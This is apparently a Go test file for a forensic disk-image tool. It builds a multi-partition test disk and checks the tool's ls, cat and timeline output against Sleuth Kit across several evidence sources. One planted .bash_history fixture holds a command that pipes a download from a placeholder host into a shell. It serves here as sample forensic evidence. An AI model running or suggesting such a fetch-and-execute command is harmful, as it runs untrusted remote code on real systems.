package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ebsimager/ebsimager/internal/emulator"
	"github.com/ebsimager/ebsimager/internal/fsys/disk/disktest"
	"github.com/ebsimager/ebsimager/internal/listing"
	"github.com/ebsimager/ebsimager/internal/testenv"
)

const snapFS = "snap-0f5000000000000f5"

// fsDisk is a GPT test disk for ls, cat and timeline: partition 1 ext4
// with a tree of files, 2 LUKS1, 3 BitLocker, 4 ext4 with a damaged
// directory, 5 XFS (mkfs.xfs -p), 6 FAT32 (mkfs.vfat and mtools), 7 NTFS
// (mkntfs, the files written through ntfs-3g). The image is 1 GiB (sparse), as the emulated snapshot's
// volume is, so that every source holds the same volume.
type fsDisk struct {
	path    string
	offsets []int64
	sum     string // the image's SHA-256, to check that nothing writes to it
	files   map[string]string
}

var xfsFiles = map[string]string{
	"etc/hostname":          "xfs-host\n",
	"var/log/messages":      strings.Repeat("Dec  5 12:00:00 host kernel: XFS (nvme0n1p1): Mounting V5 Filesystem\n", 2000),
	"home/u/.bash_history":  "sudo -i\n",
	"link":                  "->etc/hostname",
	"var/empty/placeholder": "",
}

var fatFiles = map[string]string{
	"EFI/BOOT/BOOTX64.EFI":         strings.Repeat("MZ\x90\x00boot loader ", 8000),
	"EFI/ubuntu/grub.cfg":          "search.fs_uuid 7e57 root\n",
	"A long file name, spaced.txt": "an LFN entry\n",
	"startup.nsh":                  "fs0:\\EFI\\BOOT\\BOOTX64.EFI\n",
}

var ntfsFiles = map[string]string{
	"Users/evidence/NTUSER.DAT":                         strings.Repeat("regf hive bin ", 6000),
	"Users/evidence/Desktop/notes.txt":                  "meet at noon\r\n",
	"Users/evidence/Downloads/tool.exe":                 strings.Repeat("MZ tool ", 3000),
	"Users/evidence/Downloads/tool.exe:Zone.Identifier": "[ZoneTransfer]\r\nZoneId=3\r\n",
	"Windows/System32/config/SYSTEM":                    strings.Repeat("regf system ", 20000),
}

var fsFiles = map[string]string{
	"etc/hostname":                  "evidence-host\n",
	"etc/passwd":                    "root:x:0:0:root:/root:/bin/bash\nec2-user:x:1000:1000::/home/ec2-user:/bin/bash\n",
	"var/log/auth.log":              strings.Repeat("Dec  5 12:00:00 host sshd[1]: Accepted publickey for ec2-user\n", 3000),
	"home/ec2-user/.bash_history":   "curl http://example.invalid/x | sh\n",
	"dir with space/file:colon.txt": "a colon is a name on ext4\n",
	"link":                          "->etc/hostname",
	"empty":                         "",
	"broken/victim":                 "in a directory whose block is damaged\n",
}

func buildFSDisk(t *testing.T) *fsDisk {
	t.Helper()
	tools := testenv.RequireTool(t, "istat")
	dir := t.TempDir()
	tree := filepath.Join(dir, "tree")
	disktest.Tree(t, tree, fsFiles)
	ext := filepath.Join(dir, "ext4.img")
	disktest.Ext4(t, ext, 16*disktest.MiB, tree)
	luks := filepath.Join(dir, "luks.img")
	disktest.LUKS1(t, luks, 4*disktest.MiB)
	bl := filepath.Join(dir, "bitlocker.img")
	disktest.BitLocker(t, bl, 2*disktest.MiB)
	xfs := filepath.Join(dir, "xfs.img")
	disktest.XFS(t, xfs, 300*disktest.MiB, xfsFiles)
	fat := filepath.Join(dir, "fat.img")
	disktest.FAT(t, fat, 40*disktest.MiB, 32, fatFiles)
	ntfs := filepath.Join(dir, "ntfs.img")
	disktest.NTFS(t, ntfs, 16*disktest.MiB, ntfsFiles)
	d := &fsDisk{path: filepath.Join(dir, "disk.raw"), files: fsFiles}
	d.offsets = disktest.Disk(t, d.path, "gpt", 1<<30, []disktest.Partition{
		{Size: 16 * disktest.MiB, Type: disktest.TypeLinux, Image: ext},
		{Size: 4 * disktest.MiB, Type: disktest.TypeLinux, Image: luks},
		{Size: 2 * disktest.MiB, Type: disktest.TypeBasic, Image: bl},
		{Size: 16 * disktest.MiB, Type: disktest.TypeLinux, Image: ext},
		{Size: 300 * disktest.MiB, Type: disktest.TypeLinux, Image: xfs},
		{Size: 40 * disktest.MiB, Type: disktest.TypeBasic, Image: fat},
		{Size: 16 * disktest.MiB, Type: disktest.TypeBasic, Image: ntfs},
	})
	// Damage partition 4's /broken: its directory block becomes garbage.
	ino := d.inode(t, 4, "broken")
	out := runTool(t, tools[0], "-o", strconv.FormatInt(d.offsets[3]/512, 10), d.path, ino)
	m := regexp.MustCompile(`(?s)Direct Blocks:\s*\n(\d+)`).FindStringSubmatch(out)
	if m == nil {
		t.Fatalf("istat of /broken:\n%s", out)
	}
	blk, _ := strconv.ParseInt(m[1], 10, 64)
	f, err := os.OpenFile(d.path, os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteAt(bytes.Repeat([]byte{0xA5}, 1024), d.offsets[3]+blk*1024); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	d.sum = d.fingerprint(t)
	return d
}

// fingerprint hashes the part of the disk that holds data (the first
// 400 MiB: the rest is a hole) with its size and modification time, to
// show that nothing wrote to it.
func (d *fsDisk) fingerprint(t *testing.T) string {
	t.Helper()
	f, err := os.Open(d.path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	fi, err := f.Stat()
	if err != nil {
		t.Fatal(err)
	}
	h := sha256.New()
	if _, err := io.Copy(h, io.NewSectionReader(f, 0, 400*disktest.MiB)); err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("%x %d %v", h.Sum(nil), fi.Size(), fi.ModTime())
}

// tskView is what Sleuth Kit says of a partition: its regular files and
// named streams (fls -r -p), their bodyfile lines (fls -r -m, without the
// $FILE_NAME lines of NTFS), and the bytes icat reads of some.
type tskView struct {
	n     int
	addrs map[string]string // path (no leading /) → address
	names []string          // every name fls lists, but named streams and Sleuth Kit's virtual files
	body  []string
	icat  map[string][]byte
}

// tsk reads partition n with fls, and with icat the files cat names.
func (d *fsDisk) tsk(t *testing.T, n int, cat []string) *tskView {
	t.Helper()
	icat := testenv.RequireTool(t, "icat")[0]
	v := &tskView{n: n, addrs: map[string]string{}, icat: map[string][]byte{}}
	virtual := func(name string) bool { // Sleuth Kit's own entries
		return strings.HasPrefix(name, "$OrphanFiles") || name == "$MBR" || name == "$FAT1" || name == "$FAT2" ||
			strings.HasSuffix(name, "(Volume Label Entry)")
	}
	for _, line := range strings.Split(strings.TrimSpace(d.fls(t, n, "-r", "-p")), "\n") {
		head, name, _ := strings.Cut(line, "\t")
		f := strings.Fields(strings.TrimSuffix(head, ":"))
		if f[0] == "r/r" {
			v.addrs[name] = f[len(f)-1]
		}
		// A named stream's line names its file too (NTFS's $Secure has
		// only $Secure:$SDS and two index streams).
		if i := strings.LastIndexByte(name, ':'); i > strings.LastIndexByte(name, '/') {
			name = name[:i]
		}
		if !virtual(name) && !slices.Contains(v.names, "/"+name) {
			v.names = append(v.names, "/"+name)
		}
	}
	slices.Sort(v.names)
	for _, line := range strings.Split(strings.TrimSpace(d.fls(t, n, "-r", "-m", "/")), "\n") {
		f := strings.Split(line, "|")
		if len(f) != 11 || !strings.HasPrefix(f[3], "r/") || strings.Contains(f[1], "($FILE_NAME)") || virtual(strings.TrimPrefix(f[1], "/")) {
			continue
		}
		// NTFS: index streams ($Secure:$SDH, an $INDEX_ROOT, type 144)
		// are not data streams and the reader does not list them; mkntfs
		// stamps $MFT's $STANDARD_INFORMATION in 2076, a time the reader
		// does not keep (cat checks $MFT's bytes against icat instead).
		if n == 7 && (strings.Contains(f[2], "-144-") || f[1] == "/$MFT") {
			continue
		}
		v.body = append(v.body, line)
	}
	for _, name := range cat {
		out, err := exec.Command(icat, "-o", strconv.FormatInt(d.offsets[n-1]/512, 10), d.path, v.addrs[name]).Output()
		if err != nil || v.addrs[name] == "" {
			t.Fatalf("icat %s (%q): %v", name, v.addrs[name], err)
		}
		v.icat[name] = out
	}
	return v
}

// check runs cat, timeline and ls -r on partition v.n of src against
// Sleuth Kit's view: the same bytes, every regular file's and stream's
// bodyfile line, the same names.
func (v *tskView) check(t *testing.T, c *cli, src string) {
	t.Helper()
	n := strconv.Itoa(v.n)
	for name, want := range v.icat {
		if r := c.ok("cat", src, n+":/"+name); r.stdout != string(want) {
			t.Errorf("cat %s %s:/%s: %d bytes, icat gives %d", src, n, name, len(r.stdout), len(want))
		}
	}
	body := c.ok("timeline", src, n).stdout
	mask := func(line string) string {
		f := strings.Split(line, "|")
		if len(f) == 11 && v.n == 7 {
			// fls -m prints as NTFS owner the four bytes after a
			// 48-byte $STANDARD_INFORMATION, which are the next
			// attribute's type (48, $FILE_NAME); istat says "Owner ID:
			// 0", as the reader does.
			f[4] = "*"
		}
		return strings.Join(f, "|")
	}
	var masked []string
	for _, line := range strings.Split(body, "\n") {
		masked = append(masked, mask(line))
	}
	for _, line := range v.body {
		if !slices.Contains(masked, mask(line)) {
			t.Errorf("timeline %s %s lacks fls's line %q", src, n, line)
		}
	}
	var names []string
	for _, line := range strings.Split(strings.TrimSpace(c.ok("ls", src, n+":/", "-r").stdout), "\n") {
		line, _, _ = strings.Cut(line, " [:")
		line, _, _ = strings.Cut(line, " -> ")
		names = append(names, strings.TrimSuffix(strings.Trim(line, `"`), "/"))
	}
	if slices.Sort(names); !slices.Equal(names, v.names) {
		t.Errorf("ls -r %s %s:/:\n%q\nfls:\n%q", src, n, names, v.names)
	}
}

// fls lists partition n with Sleuth Kit: "type inode\tpath" per entry.
func (d *fsDisk) fls(t *testing.T, n int, args ...string) string {
	t.Helper()
	fls := testenv.RequireTool(t, "fls")[0]
	return runTool(t, fls, append(append([]string{"-o", strconv.FormatInt(d.offsets[n-1]/512, 10)}, args...), d.path)...)
}

// inode is the inode number fls gives path in partition n.
func (d *fsDisk) inode(t *testing.T, n int, path string) string {
	t.Helper()
	for _, line := range strings.Split(d.fls(t, n, "-r", "-p"), "\n") {
		head, name, ok := strings.Cut(line, "\t")
		if ok && name == path {
			f := strings.Fields(strings.TrimSuffix(head, ":"))
			return f[len(f)-1]
		}
	}
	t.Fatalf("fls does not list %s in partition %d", path, n)
	return ""
}

// fsSources acquires the disk into an evidence directory and exports it
// as an E01: the four kinds of SOURCE, the snapshot last.
func fsSources(t *testing.T, d *fsDisk) (c *cli, sources []string) {
	t.Helper()
	start := time.Now()
	defer func() { t.Logf("sources made in %v", time.Since(start)) }()
	srv, endpoint := startEmulator(t, emulator.Options{})
	if err := srv.AddRawImage(snapFS, d.path, emulator.RawOptions{}); err != nil {
		t.Fatal(err)
	}
	c = newCLI(t, endpoint)
	dir := t.TempDir()
	ev := filepath.Join(dir, "ev")
	c.ok("acquire", snapFS, "--out", ev, "--quiet")
	t.Logf("acquired in %v", time.Since(start))
	e01 := filepath.Join(dir, "e01")
	c.ok("export", ev, "--out", e01, "--format", "e01", "--quiet")
	return c, []string{d.path, ev, e01 + ".E01", snapFS}
}

// TestFSCommands runs ls, cat and timeline on the four kinds of source
// and checks them against Sleuth Kit's fls and icat on the raw disk:
// cat gives icat's bytes, timeline every line of fls -r -m, ls fls's
// names; bad input gives the documented exit codes; the source is never
// written.
func TestFSCommands(t *testing.T) {
	t.Parallel()
	icat := testenv.RequireTool(t, "icat")[0]
	start := time.Now()
	d := buildFSDisk(t)
	t.Logf("disk built in %v", time.Since(start))
	c, sources := fsSources(t, d)

	// What Sleuth Kit says of partition 1.
	off1 := strconv.FormatInt(d.offsets[0]/512, 10)
	flsBody := d.fls(t, 1, "-r", "-m", "/")
	var wantBody []string
	for _, line := range strings.Split(strings.TrimSpace(flsBody), "\n") {
		if !strings.Contains(line, "|/$OrphanFiles|") { // a virtual directory of Sleuth Kit's
			wantBody = append(wantBody, line)
		}
	}
	var wantNames []string
	for _, line := range strings.Split(strings.TrimSpace(d.fls(t, 1, "-r", "-p")), "\n") {
		_, name, _ := strings.Cut(line, "\t")
		if name != "$OrphanFiles" {
			wantNames = append(wantNames, "/"+name)
		}
	}
	slices.Sort(wantNames)
	icat1 := map[string][]byte{} // icat's bytes of every regular file
	inode1 := map[string]string{}
	for name, content := range d.files {
		inode1[name] = d.inode(t, 1, name)
		if strings.HasPrefix(content, "->") || strings.HasPrefix(name, "broken/") {
			continue
		}
		out, err := exec.Command(icat, "-o", off1, d.path, inode1[name]).Output()
		if err != nil {
			t.Fatalf("icat %s: %v", name, err)
		}
		icat1[name] = out
	}

	fatView := d.tsk(t, 6, []string{"EFI/BOOT/BOOTX64.EFI", "A long file name, spaced.txt"})
	ntfsView := d.tsk(t, 7, []string{"Users/evidence/NTUSER.DAT", "Users/evidence/Downloads/tool.exe:Zone.Identifier",
		"Windows/System32/config/SYSTEM", "$MFT", "$LogFile", "$Secure:$SDS"})
	for name, content := range fatFiles {
		if got, ok := fatView.icat[name]; ok && string(got) != content {
			t.Fatalf("icat of FAT's %s: %d bytes, the file had %d", name, len(got), len(content))
		}
	}
	t.Logf("Sleuth Kit read in %v", time.Since(start))
	for i, src := range sources {
		live := src == snapFS
		// Every check on the raw disk and the snapshot; on the evidence
		// directory and the E01, which read through the same volume
		// layer, the cross-checks and a few errors (the test binary is
		// slow to start: ~0.5 s a run).
		full := i == 0 || live
		t.Run(filepath.Base(src), func(t *testing.T) {
			c := &cli{t: t, endpoint: c.endpoint}
			// cat gives icat's bytes, for every regular file.
			for name, want := range icat1 {
				if !full && name != "var/log/auth.log" && name != "dir with space/file:colon.txt" {
					continue
				}
				content := d.files[name]
				r := c.ok("cat", src, "1:/"+name)
				if r.stdout != string(want) || r.stdout != content {
					t.Errorf("cat %s 1:/%s: %d bytes, icat gives %d, the file had %d", src, name, len(r.stdout), len(want), len(content))
				}
				if live && !regexp.MustCompile(`read `+snapFS+` live: 1 List and \d+ Get calls \(\d+ blocks fetched, \d+ bytes, \d+ cache hits\), about \$[0-9.]+\n`).MatchString(r.stderr) {
					t.Errorf("cat of a live snapshot says no cost on stderr:\n%s", r.stderr)
				}
			}

			// timeline of partition 1 is fls -r -m's.
			r := c.ok("timeline", src, "1")
			if got := strings.Split(strings.TrimSpace(r.stdout), "\n"); !slices.Equal(sorted(got), sorted(wantBody)) {
				t.Errorf("timeline %s 1:\n%s\nfls -r -m:\n%s", src, r.stdout, strings.Join(wantBody, "\n"))
			}
			// With no N: every file system, named N:; the encrypted
			// partitions noted; partition 4's damaged directory ends its
			// walk with exit 14 naming it, after the rest is written.
			r = c.run("timeline", src)
			if r.code != exitFileSystem || !strings.Contains(r.stderr, "partition 2 is encrypted with LUKS1: not in the timeline") ||
				!strings.Contains(r.stderr, "partition 3 is encrypted with BitLocker: not in the timeline") ||
				!strings.Contains(r.stderr, "timeline of partition 4: /broken") {
				t.Errorf("timeline %s: exit %d\n%s", src, r.code, r.stderr)
			}
			for _, line := range wantBody {
				if !strings.Contains(r.stdout, strings.Replace(line, "|/", "|1:/", 1)+"\n") {
					t.Errorf("timeline %s lacks %q", src, line)
				}
			}

			// ls -r gives fls's names; --json the same with inode numbers.
			r = c.ok("ls", src, "1:/", "-r")
			var got []string
			for _, line := range strings.Split(strings.TrimSpace(r.stdout), "\n") {
				line, _, _ = strings.Cut(line, " -> ")
				got = append(got, strings.TrimSuffix(strings.Trim(line, `"`), "/"))
			}
			if slices.Sort(got); !slices.Equal(got, wantNames) {
				t.Errorf("ls -r %s:\n%v\nfls:\n%v", src, got, wantNames)
			}
			var l listing.Listing
			if err := json.Unmarshal([]byte(c.ok("ls", src, "p1:/etc", "--json").stdout), &l); err != nil {
				t.Fatal(err)
			}
			if l.Part != "1" || l.FSType != "ext4" || len(l.Entries) != 2 {
				t.Fatalf("ls --json: %+v", l)
			}
			for _, e := range l.Entries {
				if e.Addr != inode1["etc/"+e.Name] || e.Size != int64(len(d.files["etc/"+e.Name])) || e.Mtime.IsZero() || e.Mode != "r/rrw-r--r--" {
					t.Errorf("ls --json entry %+v", e)
				}
			}
			// XFS, which Sleuth Kit 4.11 does not read: cat gives the
			// bytes put in; timeline and ls name every file put in.
			r = c.ok("cat", src, "5:/var/log/messages")
			if r.stdout != xfsFiles["var/log/messages"] {
				t.Errorf("cat %s 5:/var/log/messages: %d bytes", src, len(r.stdout))
			}
			body := c.ok("timeline", src, "5").stdout
			for name, content := range xfsFiles {
				m := regexp.MustCompile(`(?m)^0\|/` + regexp.QuoteMeta(name) + `\|\d+\|r/rrw-r--r--\|0\|0\|` + strconv.Itoa(len(content)) + `\|\d+\|[1-9]\d*\|[1-9]\d*\|[1-9]\d*$`)
				if strings.HasPrefix(content, "->") {
					m = regexp.MustCompile(`(?m)^0\|/` + name + " -> " + content[2:] + `\|\d+\|l/lrwxrwxrwx\|0\|0\|` + strconv.Itoa(len(content)-2) + `\|`)
				}
				if !m.MatchString(body) {
					t.Errorf("timeline %s 5 has no line for %s:\n%s", src, name, body)
				}
			}
			var xfsNames []string
			for _, line := range strings.Split(strings.TrimSpace(c.ok("ls", src, "5:/", "-r").stdout), "\n") {
				line, _, _ = strings.Cut(line, " -> ")
				xfsNames = append(xfsNames, line)
			}
			if want := []string{"/etc/", "/etc/hostname", "/home/", "/home/u/", "/home/u/.bash_history", "/link", "/var/", "/var/empty/",
				"/var/empty/placeholder", "/var/log/", "/var/log/messages"}; !slices.Equal(sorted(xfsNames), want) {
				t.Errorf("ls -r %s 5:/: %q", src, xfsNames)
			}

			// FAT32 and NTFS against Sleuth Kit.
			fatView.check(t, c, src)
			ntfsView.check(t, c, src)

			// Bad input.
			c.fails(exitNotFound, `no part "9" on this volume (it holds partition 1 (ext4), partition 2 (luks1, encrypted)`, "ls", src, "9:/")
			c.fails(exitFileSystem, "partition 2 is encrypted with LUKS1", "ls", src, "2:/")
			if !full {
				return
			}
			long := c.ok("ls", src, "1:/etc/hostname", "-l").stdout
			if !regexp.MustCompile(`(?m)^r/rrw-r--r-- +0 +0 +14 +20\d\d-\d\d-\d\dT\d\d:\d\d:\d\dZ .* ` + inode1["etc/hostname"] + ` +hostname$`).MatchString(long) {
				t.Errorf("ls -l of a file:\n%s", long)
			}
			c.fails(exitNotFound, "partition 1: /etc/nope: no such file or directory", "cat", src, "1:/etc/nope")
			c.fails(exitFileSystem, "partition 3 is encrypted with BitLocker", "cat", src, "3:/x")
			c.fails(exitFileSystem, "/broken", "ls", src, "4:/broken")
			c.fails(exitInvalid, "is a directory", "cat", src, "1:/etc")
			c.fails(exitUsage, "the volume does not hold exactly one file system", "ls", src, "/etc")
			c.fails(exitUsage, "malformed path", "ls", src, "1:etc")
		})
	}

	// cat --out writes FILE and FILE.sha256, 0600, that sha256sum checks.
	dir := t.TempDir()
	out := filepath.Join(dir, "auth.log")
	c.ok("cat", sources[1], "1:/var/log/auth.log", "--out", out)
	if got := readFile(t, out); got != d.files["var/log/auth.log"] {
		t.Fatalf("cat --out wrote %d bytes", len(got))
	}
	for _, p := range []string{out, out + ".sha256"} {
		if fi, err := os.Stat(p); err != nil || fi.Mode().Perm() != 0o600 {
			t.Fatalf("%s: %v %v", p, fi, err)
		}
	}
	cmd := exec.Command("sha256sum", "-c", "auth.log.sha256")
	cmd.Dir = dir
	if o, err := cmd.CombinedOutput(); err != nil || string(o) != "auth.log: OK\n" {
		t.Fatalf("sha256sum -c: %v\n%s", err, o)
	}
	c.fails(exitConflict, "exists", "cat", sources[1], "1:/etc/passwd", "--out", out)
	c.ok("cat", sources[1], "1:/etc/passwd", "--out", out, "--force")
	if readFile(t, out) != d.files["etc/passwd"] {
		t.Fatal("cat --out --force did not replace the file")
	}
	c.fails(exitConflict, "", "cat", sources[0], "1:/etc/passwd", "--out", sources[0], "--force")
	// A failed cat leaves nothing under the final name.
	c.fails(exitNotFound, "no such file", "cat", sources[1], "1:/nope", "--out", filepath.Join(dir, "nope"))
	if m, _ := filepath.Glob(filepath.Join(dir, "*nope*")); len(m) != 0 {
		t.Fatalf("a failed cat left %v", m)
	}
	// timeline --out.
	body := filepath.Join(dir, "body.txt")
	c.ok("timeline", sources[0], "1", "--out", body)
	if got := strings.Split(strings.TrimSpace(readFile(t, body)), "\n"); !slices.Equal(sorted(got), sorted(wantBody)) {
		t.Fatalf("timeline --out:\n%s", strings.Join(got, "\n"))
	}
	// mactime reads it as it reads fls's: the same timeline.
	mactime := testenv.RequireTool(t, "mactime")[0]
	flsFile := filepath.Join(dir, "fls.txt")
	if err := os.WriteFile(flsFile, []byte(strings.Join(wantBody, "\n")+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if got, want := runTool(t, mactime, "-b", body, "-d", "-z", "UTC"), runTool(t, mactime, "-b", flsFile, "-d", "-z", "UTC"); got != want || !strings.Contains(got, ",\"/etc/passwd\"") {
		t.Fatalf("mactime of the timeline:\n%s\nof fls's:\n%s", got, want)
	}

	if got := d.fingerprint(t); got != d.sum {
		t.Fatal("the raw disk was written to")
	}
}

func sorted(s []string) []string {
	s = slices.Clone(s)
	slices.Sort(s)
	return s
}

// TestFSBareVolume reads a file system with no partition table, the
// single file system paths name as /path.
func TestFSBareVolume(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	tree := filepath.Join(dir, "tree")
	disktest.Tree(t, tree, map[string]string{"etc/hostname": "bare\n", "var/log/syslog": "boot\n"})
	img := filepath.Join(dir, "bare.raw")
	disktest.Ext4(t, img, 8*disktest.MiB, tree)
	c := newCLI(t, "")
	if r := c.ok("cat", img, "/etc/hostname"); r.stdout != "bare\n" {
		t.Fatalf("cat /etc/hostname: %q", r.stdout)
	}
	if r := c.ok("ls", img, "/var/log"); r.stdout != "syslog\n" {
		t.Fatalf("ls /var/log: %q", r.stdout)
	}
	r := c.ok("timeline", img)
	if !regexp.MustCompile(`(?m)^0\|/var/log/syslog\|\d+\|r/rrw-r--r--\|0\|0\|5\|`).MatchString(r.stdout) || r.stderr != "" {
		t.Fatalf("timeline of a bare volume:\n%s\n%s", r.stdout, r.stderr)
	}
	c.fails(exitNotFound, `no part "1" on this volume (it holds a bare ext4 file system, addressed as /path)`, "cat", img, "1:/etc/hostname")
	c.fails(exitNotFound, "the volume: /etc/nope: no such file or directory", "cat", img, "/etc/nope")
	c.fails(exitInvalid, "not a directory", "ls", img, "/etc/hostname/x")
}

// TestFSLVM reads a file system in an LVM2 linear logical volume, made
// with pvcreate, vgcreate and lvcreate, as VG/LV:/path, and as /path: it
// is the volume's one file system.
func TestFSLVM(t *testing.T) {
	t.Parallel()
	l := disktest.NewLVM(t)
	dir := t.TempDir()
	img := filepath.Join(dir, "disk.raw")
	off := disktest.Disk(t, img, "gpt", 64*disktest.MiB, []disktest.Partition{{Size: 40 * disktest.MiB, Type: disktest.TypeLVM}})
	pv := l.Loop(img, off[0], 40*disktest.MiB)
	vg := fmt.Sprintf("evcmd%d", os.Getpid())
	l.Run("pvcreate", "-y", pv)
	l.Run("vgcreate", "-s", "4M", vg, pv)
	l.Run("lvcreate", "--driverloaded", "n", "-an", "-Zn", "-L", "4M", "-n", "swap", vg)
	l.Run("lvcreate", "--driverloaded", "n", "-an", "-Zn", "-L", "16M", "-n", "root", vg)
	extents := l.Extents(vg+"/root", 4*disktest.MiB, map[string]int64{pv: off[0]})
	l.Detach()
	tree := filepath.Join(dir, "tree")
	disktest.Tree(t, tree, map[string]string{"etc/hostname": "in-lvm\n", "var/log/messages": "lvm boot\n"})
	ext := filepath.Join(dir, "ext4.img")
	disktest.Ext4(t, ext, 16*disktest.MiB, tree)
	disktest.WriteExtents(t, img, ext, extents)

	c := newCLI(t, "")
	if r := c.ok("cat", img, vg+"/root:/etc/hostname"); r.stdout != "in-lvm\n" {
		t.Fatalf("cat %s/root:/etc/hostname: %q", vg, r.stdout)
	}
	if r := c.ok("cat", img, "/var/log/messages"); r.stdout != "lvm boot\n" {
		t.Fatalf("cat /var/log/messages: %q", r.stdout)
	}
	r := c.ok("timeline", img)
	if !regexp.MustCompile(`(?m)^0\|`+vg+`/root:/etc/hostname\|\d+\|r/rrw-r--r--\|0\|0\|7\|`).MatchString(r.stdout) ||
		!strings.Contains(r.stderr, "partition 1 is an LVM2 physical volume (its logical volumes are covered as VG/LV): not in the timeline") ||
		!strings.Contains(r.stderr, "LV "+vg+"/swap holds unknown: not in the timeline") {
		t.Fatalf("timeline:\n%s\n%s", r.stdout, r.stderr)
	}
	c.fails(exitFileSystem, "partition 1 (lvm2_pv): it is an LVM2 physical volume; read its logical volumes as "+vg+"/swap:/path, "+vg+"/root:/path", "ls", img, "1:/")
	c.fails(exitNotFound, `no part "`+vg+`/home"`, "ls", img, vg+"/home:/")
}
